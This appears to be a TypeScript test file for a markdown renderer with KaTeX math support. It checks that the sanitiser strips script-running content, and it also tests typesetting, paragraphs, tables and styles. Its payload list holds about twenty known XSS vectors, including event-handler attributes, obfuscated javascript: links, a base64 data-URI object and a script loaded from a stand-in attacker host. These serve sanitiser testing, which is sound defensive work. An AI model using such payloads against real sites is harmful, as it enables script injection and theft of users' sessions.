import { render, screen } from '@testing-library/react';
import { renderMarkdown } from '@/shared/markdown';
import { Markdown } from './Markdown';

/**
 * Known XSS payloads, from the OWASP XSS Filter Evasion Cheat Sheet and the html5sec.org list
 * (from memory, shortened to the attack each one stands for).
 */
const payloads = [
  '<script>window.__pwned = 1</script>',
  '<SCRIPT SRC=https://attacker.example.org/x.js></SCRIPT>',
  '<img src=x onerror="window.__pwned = 1">',
  '<svg onload="window.__pwned = 1">',
  '<body onload="window.__pwned = 1">',
  '<iframe src="javascript:window.__pwned = 1"></iframe>',
  '<a href="javascript:window.__pwned = 1">link</a>',
  '[click](javascript:window.__pwned=1)',
  '[click](JaVaScRiPt:window.__pwned=1)',
  '[click](&#106;avascript:window.__pwned=1)',
  '![img](javascript:window.__pwned=1)',
  '<details open ontoggle="window.__pwned = 1">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 1">',
  '<form action="javascript:window.__pwned=1"><button>go</button></form>',
  '<div style="background:url(javascript:window.__pwned=1)">x</div>',
  'Inline <span onmouseover="window.__pwned = 1">hover</span> text',
  '[ref]: javascript:window.__pwned=1\n\n[see][ref]',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '$\\href{javascript:window.__pwned=1}{x}$',
  '$\\htmlData{onload=x}{y}$',
];

describe('renderMarkdown', () => {
  it.each(payloads)('leaves nothing that can run of %s', (payload) => {
    const html = renderMarkdown(`Before.\n\n${payload}\n\nAfter.`);
    const host = document.createElement('div');
    host.innerHTML = html;
    expect(host.querySelector('script, iframe, object, embed, form, style, svg, body')).toBeNull();
    for (const element of Array.from(host.querySelectorAll('*'))) {
      for (const { name, value } of Array.from(element.attributes)) {
        expect(name).not.toMatch(/^on/i);
        expect(value).not.toMatch(/^\s*javascript:/i);
      }
    }
    // KaTeX refuses \href without trust, so its TeX source survives only as text, never as a link.
    for (const link of Array.from(host.querySelectorAll('[href], [src], [action]'))) {
      expect(link.getAttribute('href') ?? link.getAttribute('src') ?? link.getAttribute('action')).not.toMatch(/script:/i);
    }
    expect(host.textContent).toContain('After.');
  });

  it('sets TeX with KaTeX, inline and on its own lines', () => {
    const html = renderMarkdown('Rest energy $E=mc^2$ of a body.\n\n$$\nF = \\frac{P}{c}\n$$');
    const host = document.createElement('div');
    host.innerHTML = html;
    const inline = host.querySelector('p .katex');
    expect(inline).not.toBeNull();
    expect(inline!.querySelector('annotation[encoding="application/x-tex"]')!.textContent).toBe('E=mc^2');
    expect(inline!.querySelector('.katex-html .mord.mathnormal')!.textContent).toBe('E');
    expect(host.querySelector('.katex-display .katex annotation')!.textContent).toBe('F = \\frac{P}{c}');
  });

  it('sets $$…$$ as display math on one line and inside a paragraph, and $…$ inline', () => {
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown('$$F = \\frac{P}{c}$$\n\nThe bound $$\\Delta p = 0$$ holds, as $p = mv$ says.');
    const displays = Array.from(host.querySelectorAll('.katex-display'));
    // KaTeX marks display mode on the MathML too (<math display="block">), as TeX's $$ does.
    expect(displays.map((d) => d.querySelector('annotation')!.textContent)).toEqual(['F = \\frac{P}{c}', '\\Delta p = 0']);
    expect(displays.every((d) => d.querySelector('math')!.getAttribute('display') === 'block')).toBe(true);
    const inline = Array.from(host.querySelectorAll('.katex')).filter((k) => !k.closest('.katex-display'));
    expect(inline.map((k) => k.querySelector('annotation')!.textContent)).toEqual(['p = mv']);
    expect(host.textContent).toContain('holds, as');
  });

  it('makes a single newline a space and a blank line a new paragraph', () => {
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown('Keep clear of the\nrotor.\n\nSwitch off first.');
    expect(Array.from(host.querySelectorAll('p')).map((p) => p.textContent!.replace(/\s+/g, ' '))).toEqual(['Keep clear of the rotor.', 'Switch off first.']);
    expect(host.querySelector('br')).toBeNull();
  });

  it('keeps GitHub-flavoured tables and safe links', () => {
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown('| a | b |\n| - | - |\n| 1 | 2 |\n\nSee [the notes](https://example.org/notes).');
    expect(host.querySelectorAll('td')).toHaveLength(2);
    expect(host.querySelector('a')!.getAttribute('href')).toBe('https://example.org/notes');
  });

  it('shows a TeX mistake in place instead of failing', () => {
    const html = renderMarkdown('Broken $\\frac{1}{$ here.');
    expect(html).toContain('katex-error');
    expect(html).toContain('here.');
  });
});

describe('Markdown', () => {
  it('puts the rendered HTML into the page in the reading face', () => {
    render(<Markdown testID="passage" html={renderMarkdown('Momentum $p = mv$ is *conserved*.')} />);
    const passage = screen.getByTestId('passage');
    expect(passage.className).toContain('cw-md');
    expect(passage.querySelector('em')!.textContent).toBe('conserved');
    expect(passage.querySelector('.katex')).not.toBeNull();
    const css = document.getElementById('cw-markdown-styles')!.textContent!;
    expect(css).toContain('SourceSerif4_400Regular');
    // Inside a react-native-web Text (white-space: pre-wrap) a passage still collapses its source's line breaks.
    expect(css).toMatch(/\.cw-md\{[^}]*white-space:normal/);
    expect(css).toMatch(/\.cw-md \.katex-display\{[^}]*text-align:center/);
  });
});
